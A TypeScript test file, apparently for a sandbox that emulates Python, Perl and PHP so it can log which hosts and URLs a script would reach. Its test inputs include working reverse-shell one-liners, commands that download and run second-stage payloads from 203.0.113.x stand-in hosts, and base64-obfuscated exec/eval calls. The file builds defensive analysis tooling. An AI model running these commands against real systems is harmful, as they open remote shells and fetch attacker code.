import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runPhp, runShell } from '../../../../test/support/run-shell.ts';
import { effectsOf } from './script-effect.ts';

const runGnu = (command: string): ReturnType<typeof runShell> => runShell('linux-gnu', command);

describe('the interpreters', () => {
  it('tell where reverse shells would connect, and are refused', () => {
    const python = runShell(
      'linux-gnu',
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    );
    expect(python.urls.join(' ')).toContain('203.0.113.9:4444');
    expect(python.output).toContain('ConnectionRefusedError: [Errno 111] Connection refused\n');
    expect(python.status).toBe(1);
    const perl = runShell(
      'linux-gnu',
      `perl -e 'use Socket;$i="203.0.113.9";$p=4445;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};'`,
    );
    expect(perl.urls.join(' ')).toContain('203.0.113.9:4445');
    expect(perl.output).toBe('');
  });

  it('run the commands of a script and find its second stage', () => {
    const { urls, output } = runShell(
      'linux-gnu',
      `python3 -c 'import os; os.system("echo one; wget -q http://203.0.113.9/x.sh")'; perl -e 'system("echo two")'; python3 -c 'print("three")'; python3 missing.py`,
    );
    expect(urls).toContain('http://203.0.113.9/x.sh');
    expect(output).toBe(
      "one\ntwo\nthree\npython3: can't open file 'missing.py': [Errno 2] No such file or directory\n",
    );
  });

  it.each([
    ["python3 -c 'print(7*191)'", '1337\n'],
    [`python3 -c 'exec(__import__("base64").b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQgLXUiKQ=="))'`, '0\n'],
    [
      `python3 -c 'import nosuchmodule'`,
      'Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nModuleNotFoundError: No module named \'nosuchmodule\'\n',
    ],
    [
      `python3 -c 'print "a"'`,
      '  File "<string>", line 1\n    print "a"\n          ^\nSyntaxError: Missing parentheses in call to \'print\'. Did you mean print("a")?\n',
    ],
    [
      `printf 'def f():\\n    return x\\nf()\\n' > /tmp/a.py; python3 /tmp/a.py`,
      'Traceback (most recent call last):\n  File "/tmp/a.py", line 3, in <module>\n    f()\n  File "/tmp/a.py", line 2, in f\n    return x\nNameError: name \'x\' is not defined\n',
    ],
    [`echo 'print(open("/etc/hostname").read().strip() != "")' | python3`, 'True\n'],
    [`python3 - a b <<'E'\nimport sys\nprint(sys.argv)\nE`, "['-', 'a', 'b']\n"],
    [`printf '#!/usr/bin/perl\\nprint "hi @ARGV\\\\n";' > /tmp/s; chmod +x /tmp/s; /tmp/s a b`, 'hi a b\n'],
    [`printf 'a b\\nc d\\n' | perl -lane 'print $F[1]'`, 'b\nd\n'],
    [`perl -e 'print "A"x10, unpack("H*", pack("N", 1))'`, 'AAAAAAAAAA00000001'],
    [`perl -e 'nosuch(1)'`, 'Undefined subroutine &main::nosuch called at -e line 1.\n'],
  ])('run %s', (command, output) => {
    const run = runShell('linux-gnu', command);
    expect(run.fault).toBeNull();
    expect(run.output).toBe(output);
  });

  it('record the second stages that a script makes up, and keep what it writes', () => {
    const run = runShell(
      'linux-gnu',
      `python3 -c 'import urllib.request as r\nh = ".".join(["203","0","113","8"])\nr.urlretrieve("http://" + h + "/b", "/tmp/b")\nopen("/tmp/c", "w").write("dropped " * 2)'; perl -MLWP::Simple -e 'getstore("http://203.0.113." . 7 . "/p", "/tmp/p")'; ls /tmp/b /tmp/p; cat /tmp/c`,
    );
    expect(run.urls).toEqual(expect.arrayContaining(['http://203.0.113.8/b', 'http://203.0.113.7/p']));
    expect(run.output).toBe('/tmp/b\n/tmp/p\ndropped dropped ');
    expect(run.captures.map(({ text }) => text)).toContain('dropped dropped ');
  });

  it.each([
    [`php -r 'echo 7*191;'`, '1337'],
    [`php -r 'eval(base64_decode("c3lzdGVtKCJpZCAtdSIpOw=="));'`, '0\n'],
    [
      `php -r '$f = "shell"."_exec"; echo $f("echo a"), \`echo b\`; foreach ($argv as $w) echo "$w ";' x y`,
      'a\nb\nStandard input code x y ',
    ],
    [`printf 'a <?= 1+1 ?>\nb <?php if (true): ?>\n yes\n<?php endif; ?>\nend\n' | php`, 'a 2b  yes\nend\n'],
    [
      `printf '<?php\nfunction f($a) {\n  throw new Exception("bad");\n}\nf(1);\n' > /tmp/a.php; php /tmp/a.php`,
      'PHP Fatal error:  Uncaught Exception: bad in /tmp/a.php:3\nStack trace:\n#0 /tmp/a.php(5): f()\n#1 {main}\n  thrown in /tmp/a.php on line 3\n',
    ],
    [
      `php -r 'echo 1 1;'`,
      'PHP Parse error:  syntax error, unexpected integer "1", expecting "," or ";" in Command line code on line 1\n',
    ],
    ['php /missing', 'Could not open input file: /missing\n'],
    [
      `printf '<?php echo 1 1;' > /tmp/b.php; php -l /tmp/b.php`,
      'PHP Parse error:  syntax error, unexpected integer "1", expecting "," or ";" in /tmp/b.php on line 1\nErrors parsing /tmp/b.php\n',
    ],
    [
      `php -d display_errors=1 -r 'echo $x;' 2>/dev/null`,
      '\nWarning: Undefined variable $x in Command line code on line 1\n',
    ],
  ])('run %s', (command, output) => {
    const run = runPhp(command);
    expect(run.fault).toBeNull();
    expect(run.output).toBe(output);
  });

  it('record what PHP would fetch and reach, and keep what it writes', () => {
    const run = runPhp(
      `php -r '$h = implode(".", ["203","0","113","8"]); copy("http://$h/b", "/tmp/b"); file_put_contents("/tmp/c", str_repeat("dropped ", 2)); chmod("/tmp/b", 0755); $s = fsockopen("203.0.113.9", 4444, $e, $m, 5); echo "$e $m\n"; eval(file_get_contents("http://203.0.113.7/p.txt"));'; ls /tmp/b; cat /tmp/c`,
    );
    expect(run.fault).toBeNull();
    expect(run.urls).toEqual(expect.arrayContaining(['http://203.0.113.8/b', 'http://203.0.113.7/p.txt']));
    expect(run.urls.join(' ')).toContain('203.0.113.9:4444');
    expect(run.output).toContain('111 Connection refused\n');
    expect(run.output).toMatch(/\/tmp\/b\ndropped dropped $/);
    expect(run.captures.map(({ text }) => text)).toContain('dropped dropped ');
  });

  it.each(['python3 -c', 'perl -e', 'php -r'])(
    '%s: any text ends in an outcome, within the bounds of the shell',
    (call) => {
      const words = fc.constantFrom(
        'print',
        '(',
        ')',
        '"a"',
        "b'x'",
        'x',
        '=',
        '+',
        '**',
        '9',
        '99999999',
        '[',
        ']',
        '{',
        '}',
        ':',
        ',',
        '\n',
        '\n  ',
        'for',
        ' in ',
        'if',
        'def f',
        'lambda',
        'range',
        'while 1',
        'import os',
        '.',
        '%',
        '$x',
        '@a',
        'my ',
        ';',
        '=~ s/a/b/g',
        'sub f',
        'map',
        'x 99999999',
        '<STDIN>',
        '<<E',
        'eval',
        '..',
        'f()',
        '#',
        '\\',
        'class A',
        'try',
        'except',
        'yield',
        '->',
        '::',
        '<<<E',
        'function f($a) {',
        'fn($a) =>',
        '${',
        '?>',
        'new class',
        'match($x)',
        '`id`',
        'static ',
        '&$x',
        '...',
        '\0',
        '\u00ff',
      );
      fc.assert(
        fc.property(
          fc.oneof(
            fc.array(words, { maxLength: 20 }).map((texts) => texts.join('')),
            fc.string({ maxLength: 60, unit: 'binary-ascii' }),
          ),
          (text) => {
            const run = (call === 'php -r' ? runPhp : runGnu)(`${call} '${text.replaceAll("'", `'\\''`)}'`);
            expect(run.fault).toBeNull();
          },
        ),
        { numRuns: 120 },
      );
    },
  );

  it('end a script without end', () => {
    expect(runShell('linux-gnu', `python3 -c 'while True: pass'`).status).toBe(137);
    expect(runShell('linux-gnu', `perl -e '1 while 1'`).status).toBe(137);
    expect(runPhp(`php -r 'while (1);'`).status).toBe(137);
    expect(runShell('linux-gnu', `python3 -c 'def f(): f()\nf()' 2>&1 | tail -1`).output).toContain(
      'RecursionError: maximum recursion depth exceeded',
    );
  });

  it('read any text within their bounds', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400, unit: 'binary-ascii' }), (text) => {
        expect(effectsOf(text).length).toBeLessThanOrEqual(32);
        expect(effectsOf(`os.system("${text}`).length).toBeLessThanOrEqual(32);
      }),
      { numRuns: 150 },
    );
    expect(effectsOf('print("'.repeat(20_000)).length).toBeLessThanOrEqual(32);
  });
});
